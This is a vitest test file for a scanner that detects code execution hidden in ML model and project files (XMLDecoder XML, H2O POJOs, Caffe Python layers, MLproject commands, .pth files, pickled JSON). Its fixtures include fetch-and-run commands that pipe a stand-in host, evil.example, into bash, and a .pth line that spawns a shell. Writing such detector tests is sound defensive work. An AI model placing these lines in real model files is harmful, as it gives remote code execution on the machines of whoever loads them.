import { describe, expect, test } from "vitest";
import { parseModel } from "../checks/parse-model.ts";
import { identify } from "../engine/identify.ts";
import { bytesOf } from "../formats/bytes/source.ts";
import { calling, limits, opcodes } from "./testing/pickles.ts";

function actsOf(path: string, text: string) {
  const bytes = Buffer.from(text);
  const name = path.slice(path.lastIndexOf("/") + 1).toLowerCase();
  const kind = identify({ bytes, size: bytes.length, name });
  const parsed = parseModel({ kind, path, source: bytesOf(bytes), limits });
  return parsed?.views.model?.acts.map((act) => act.kind) ?? [];
}

const decoder = (name: string): string =>
  `<?xml version="1.0"?>\n<java version="1.8" class="java.beans.XMLDecoder"><object class="${name}"><void method="start"/></object></java>`;
const pojo = (body: string): string =>
  `import hex.genmodel.GenModel;\npublic class GBM_1 extends GenModel {\n  ${body}\n}\n`;
const layer = (module: string, name: string): string =>
  `name: "net"\nlayer { name: "x" type: "Python" python_param { module: "${module}" layer: "${name}" } }\n`;
const project = (command: string): string =>
  `name: x\nentry_points:\n  main:\n    command: "${command}"\n`;

describe("texts that run", () => {
  test.each([
    ["model.xml", decoder("java.lang.ProcessBuilder")],
    ["m.java", pojo('static { Runtime.getRuntime().exec("id"); }')],
    ["net.prototxt", layer("os", "system")],
    ["net.prototxt", layer("subprocess", "Popen")],
    ["p/MLproject", project("curl http://evil.example/s | bash && python train.py")],
    ["p/MLproject", project("bash <(curl -s https://evil.example/s)")],
    ["fix.pth", 'import os;os.system("id")\n'],
    ["fix.pth", "/some/path\nimport subprocess; subprocess.Popen(['sh'])\n"],
  ])("%s", (path, text) => {
    expect(actsOf(path, text)).toContain("runs");
  });
  test.each([
    ["model.xml", decoder("java.util.ArrayList")],
    ["notes.xml", "<p>java.lang.ProcessBuilder</p>"],
    ["m.java", pojo("double[] score0(double[] d, double[] p) { return p; }")],
    ["Tool.java", 'class Tool { void run() { Runtime.getRuntime().exec("id"); } }'],
    ["net.prototxt", layer("rpn.proposal_layer", "ProposalLayer")],
    ["p/MLproject", project("python train.py --alpha {alpha}")],
    ["notes.txt", project("curl http://evil.example/s | bash")],
    [
      "distutils-precedence.pth",
      "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n",
    ],
    ["cov.pth", "import coverage; coverage.process_startup()\n"],
  ])("%s that does not is silent", (path, text) => {
    expect(actsOf(path, text)).toEqual([]);
  });
});

describe("a pickle as base64 in JSON", () => {
  const json = (bytes: Buffer): string =>
    JSON.stringify({ format: "x", estimator: bytes.toString("base64"), other: [1, 2] });
  test("is followed", () => {
    expect(actsOf("model.json", json(calling("os", "system", "echo hello world")))).toEqual([
      "runs",
    ]);
  });
  test("of data only is silent, and so is what only looks like it", () => {
    expect(
      actsOf("model.json", json(opcodes("\x80\x04]\x8c\x20" + "a".repeat(32) + "a."))),
    ).toEqual([]);
    expect(actsOf("model.json", json(Buffer.from(`\x80\x04${"x".repeat(40)}`, "latin1")))).toEqual(
      [],
    );
  });
});
